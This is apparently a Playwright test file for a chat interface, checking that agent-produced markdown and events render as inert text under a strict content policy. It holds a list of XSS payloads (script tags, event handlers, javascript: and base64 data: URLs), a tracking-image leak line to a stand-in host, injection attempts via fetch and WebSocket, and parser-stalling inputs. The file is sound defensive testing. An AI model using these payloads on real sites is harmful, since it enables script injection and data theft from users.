"""What an agent says is not trusted: it stays text, leads nowhere else by itself, and runs nothing."""

from __future__ import annotations

import base64
import socket
from typing import Any

import pytest
from playwright.async_api import expect

from tests.unit.server.page.browsing import BROWSING, PIXEL, Agent, Browsers, event

pytestmark = BROWSING
EVIL = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "<svg/onload=window.hacked=1>",
    "<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe>",
    "[click](javascript:window.hacked=1)",
    "[click](JaVaScRiPt:window.hacked=1)",
    "[click](java\tscript:window.hacked=1)",
    "[click](\x01javascript:window.hacked=1)",
    "[click](data:text/html,<script>window.hacked=1</script>)",
    "[click](vbscript:window.hacked=1)",
    "<javascript:window.hacked=1>",
    "![x](javascript:window.hacked=1)",
    "![x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=)",
    "![x](https://elsewhere.test/leak?secret=1)",
    '![x" onerror="window.hacked=1](https://elsewhere.test/a.png)',
    '[x](https://elsewhere.test/" onclick="window.hacked=1)',
    "[a](https://elsewhere.test/ 'x\" onmouseover=\"window.hacked=1')",
    '```html" onclick="window.hacked=1\n<script>window.hacked = 1</script>\n```',
    "| <b onclick=window.hacked=1>a</b> | b |\n|---|---|\n| <script>window.hacked=1</script> | c |",
    "&lt;script&gt;window.hacked=1&lt;/script&gt; &#106;avascript:1",
    "<style>@import 'https://elsewhere.test/x.css'; * { display: none }</style>",
    "<form action='https://elsewhere.test'><button>Send</button></form>",
    "![svg](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icGFyZW50LmhhY2tlZD0xIi8+)",
]


async def test_evil_markdown_does_nothing(browsers: Browsers) -> None:
    async with browsers.talking(Agent("\n\n".join(EVIL))) as chat:
        await chat.ask_and_wait()
        said = chat.answer.locator(".text")
        await expect(said).to_contain_text("window.hacked = 1")
        for link in await said.get_by_role("link").all():
            assert (await link.get_attribute("href") or "").startswith("https://elsewhere.test/")
            assert await link.get_attribute("rel") == "noopener noreferrer nofollow"
            assert await link.get_attribute("target") == "_blank"
        for dead in await said.locator(".dead-link").all():
            await dead.click()
        for kind in ("script", "iframe", "svg[onload]", "style", "form", "object", "embed", "base", "link", "meta"):
            await expect(said.locator(kind)).to_have_count(0)
        names = await said.evaluate("e => [...e.querySelectorAll('*')].flatMap((each) => each.getAttributeNames())")
        assert not [name for name in names if name.startswith("on")]
        assert await chat.page.evaluate("() => window.hacked ?? null") is None
        await expect(said).to_be_visible()


@pytest.mark.parametrize("protocol", ["agent_api", "ag_ui"])
async def test_evil_everywhere_else(browsers: Browsers, protocol: str) -> None:
    evil = "<img src=x onerror='window.hacked = 1'>"
    media: list[Any] = [
        {"type": "image_url", "image_url": {"url": "javascript:window.hacked=1"}},
        {"type": "file", "file": {"filename": evil, "file_url": "javascript:window.hacked=1"}},
    ]
    agent = Agent(
        event("REASONING", delta=evil),
        event("TOOL_CALL", id="a", name=evil, args=f'{{"x": "{evil}"}}'),
        event("TOOL_RESULT", id="a", result=evil),
        event("STATE", snapshot={evil: evil}),
        event("CUSTOM", name=evil, value=evil),
        {"role": "assistant", "content": media},
        ValueError(evil),
    )
    async with browsers.talking(agent) as chat:
        await chat.begin(protocol)
        await chat.page.get_by_role("button", name="Raw events").click()
        await chat.ask_and_wait(evil)
        for summary in await chat.page.locator("summary").all():
            await summary.click()
        await expect(chat.answer.get_by_role("alert")).to_contain_text(evil)
        await expect(chat.questions).to_have_text(evil)
        await expect(chat.page.locator("img, a[href^=javascript]")).to_have_count(0)
        assert await chat.page.evaluate("() => window.hacked ?? null") is None


ATTEMPTS = """async (place) => {
  const tried = {};
  const attempt = async (name, act) => {
    try { await act(); tried[name] = "done"; } catch (error) { tried[name] = error.name; }
  };
  const loaded = (element, name) => new Promise((resolve, reject) => {
    element.addEventListener(name, resolve);
    element.addEventListener("error", () => reject(new TypeError()));
  });
  await attempt("markup", () => { document.createElement("div").innerHTML = "<b>x</b>"; });
  await attempt("fetch", () => fetch(`http://${place}/fetch`, { mode: "no-cors" }));
  await attempt("image", () => loaded(Object.assign(new Image(), { src: `http://${place}/image` }), "load"));
  await attempt("socket", () => loaded(new WebSocket(`ws://${place}/socket`), "open"));
  await attempt("script", () => {
    const script = document.createElement("script");
    script.textContent = "window.hacked = 1";
    document.body.append(script);
  });
  return [tried, window.hacked ?? null];
}"""


async def test_the_browser_forbids_what_the_page_does_not_do(browsers: Browsers) -> None:
    """If a mistake let markup in, the policy of the page would still hold."""
    with socket.create_server(("127.0.0.1", 0)) as elsewhere:
        place = f"127.0.0.1:{elsewhere.getsockname()[1]}"
        async with browsers.talking(Agent("ok")) as chat:
            tried, hacked = await chat.page.evaluate(ATTEMPTS, place)
            # The driver tells of an image that the policy stopped.
            assert chat.watch.complaints
            assert set(chat.watch.foreign) <= {f"http://{place}/image"}
            chat.watch.complaints.clear()
            chat.watch.foreign.clear()
        assert tried == dict.fromkeys(("markup", "fetch", "image", "socket", "script"), "TypeError")
        assert hacked is None
        elsewhere.settimeout(0.3)
        with pytest.raises(TimeoutError):
            elsewhere.accept()


# Texts over which a parser that looks ahead from every place in them loses its time.
ENDLESS = {
    "bold": "**a " * 20_000,
    "brackets": "[a" * 20_000,
    "ticks": " ".join("`" * count + "a" for count in range(1, 300)),
    "struck": "~~a " * 20_000,
    "spaces": "a" + " " * 20_000 + "b",
    "table": "a|b\n" + " " * 20_000 + "-" * 20_000 + "x",
    "code": "```js\n" + "'\\\\" * 20_000,
}
RENDERED = """async (texts) => {
  const { markdown } = await import(new URL("markdown.js", document.querySelector("script[type=module]").src));
  const began = performance.now();
  const lengths = {};
  for (const [name, text] of Object.entries(texts)) lengths[name] = markdown(text).textContent.length;
  return [lengths, (performance.now() - began) / 1000];
}"""


async def test_endless_markdown_does_not_stop_the_page(browsers: Browsers) -> None:
    async with browsers.talking(Agent("ok")) as chat:
        lengths, seconds = await chat.page.evaluate(RENDERED, ENDLESS)
    assert all(length > 10_000 for length in lengths.values()), lengths
    assert seconds < 4


async def test_an_image_in_the_words_of_an_agent(browsers: Browsers) -> None:
    noise = base64.b64encode(b"x" * 30_000).decode()
    async with browsers.talking(Agent(f"**Look**: ![dot](data:image/png;base64,{PIXEL}{noise})")) as chat:
        await chat.ask_and_wait()
        await expect(chat.answer.get_by_role("img", name="dot")).to_be_attached()
        await expect(chat.answer.locator("strong")).to_have_text("Look")
